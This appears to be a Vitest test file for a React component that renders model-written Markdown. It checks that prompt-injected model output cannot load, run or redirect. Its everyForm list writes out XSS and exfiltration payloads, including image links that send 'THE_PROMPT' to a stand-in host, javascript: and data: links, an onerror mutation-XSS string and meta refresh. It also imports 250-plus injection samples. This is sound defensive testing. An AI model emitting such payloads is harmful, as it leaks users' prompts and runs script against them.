// @vitest-environment happy-dom
import { injections } from '@takhti/assistant/samples/injections'
import { act } from 'react'
import { createRoot, type Root } from 'react-dom/client'
import { afterEach, beforeEach, expect, test, vi } from 'vitest'
import { Prose } from './Prose.tsx'

let root: Root
let place: HTMLElement

beforeEach(() => {
  vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true)
  place = document.createElement('div')
  document.body.append(place)
  root = createRoot(place)
})

afterEach(() => {
  act(() => root.unmount())
  place.remove()
  vi.unstubAllGlobals()
})

const host = 'https://collect.example'
const own = 'https://www.youtube.com/watch?v=abc'

/** Everything in a page that could load, run or navigate, except links to the caller's own. */
function live(): string[] {
  const plain = new Set(
    'DIV P H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE HR BR TABLE THEAD TBODY TR TH TD STRONG EM A BUTTON'.split(' '),
  )
  const allowed = new Set('class dir lang start tabindex scope href target rel type aria-label title'.split(' '))
  return [...place.querySelectorAll('*')].flatMap((element) => [
    ...(plain.has(element.tagName) ? [] : [element.tagName]),
    ...element.getAttributeNames().filter((name) => !allowed.has(name)),
    ...(element.hasAttribute('href') && element.getAttribute('href') !== own ? [element.outerHTML] : []),
  ])
}

function show(text: string): void {
  act(() => root.render(<Prose text={text} links={[own]} citations={[{ label: 'At 1:05', open: () => {} }]} />))
}

test('[J2] text that a source made a model write neither loads, runs nor redirects', () => {
  const all = injections(host)
  expect(all.length).toBeGreaterThan(250)
  for (const { id, text } of all) {
    show(text)
    expect(live(), id).toEqual([])
  }
  for (const form of everyForm(`${host}/p.png?q=THE_PROMPT`)) {
    show(form)
    expect(live(), form).toEqual([])
  }
})

/** Every form in which Markdown and HTML contain an address. */
function everyForm(address: string): string[] {
  return [
    `![a](${address})`,
    `![a](<${address}> "title")`,
    `![a][1]\n\n[1]: ${address}`,
    `[a](${address})`,
    `[a]: ${address}\n[a]`,
    `<${address}>`,
    address,
    `[![a](${address})](${address})`,
    `**[a](${address})**`,
    `> - # [a](${address})`,
    `| [a](${address}) |\n| --- |\n| ![a](${address}) |`,
    `[a](javascript:alert(1))`,
    `[a](data:text/html;base64,PHNjcmlwdD4=)`,
    `[a](${own}\n${address})`,
    `<a href="${address}">a</a><base href="${address}"><link rel="prefetch" href="${address}">`,
    `<video poster="${address}"><source src="${address}"></video><object data="${address}"></object>`,
    `<math><mtext></math><mglyph><style><img src="${address}" onerror="alert(1)">`,
    `<meta http-equiv="refresh" content="0;url=${address}">`,
    `$$\\href{${address}}{a} \\includegraphics{${address}}$$`,
  ]
}

test('a link to the source opens beside the page, and a citation opens its passage', () => {
  const open = vi.fn()
  act(() =>
    root.render(
      <Prose text={`See [the film](${own}) [1] and [2].`} links={[own]} citations={[{ label: 'At 1:05', open }]} />,
    ),
  )
  const link = place.querySelector('a')
  expect([link?.href, link?.rel, link?.textContent]).toEqual([own, 'noopener noreferrer', 'the film'])
  act(() => place.querySelector('button')?.click())
  expect(open).toHaveBeenCalledOnce()
  expect(place.querySelector('button')?.getAttribute('aria-label')).toBe('At 1:05')
  expect(place.textContent).toBe('See the film 1 and [2].')
})

test('headings are one level below the heading of the text’s section', () => {
  act(() => root.render(<Prose text={'# One\n\n## Two\n\n###### Six'} below={4} />))
  expect([...place.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(({ tagName }) => tagName)).toEqual(['H5', 'H6', 'H6'])
})
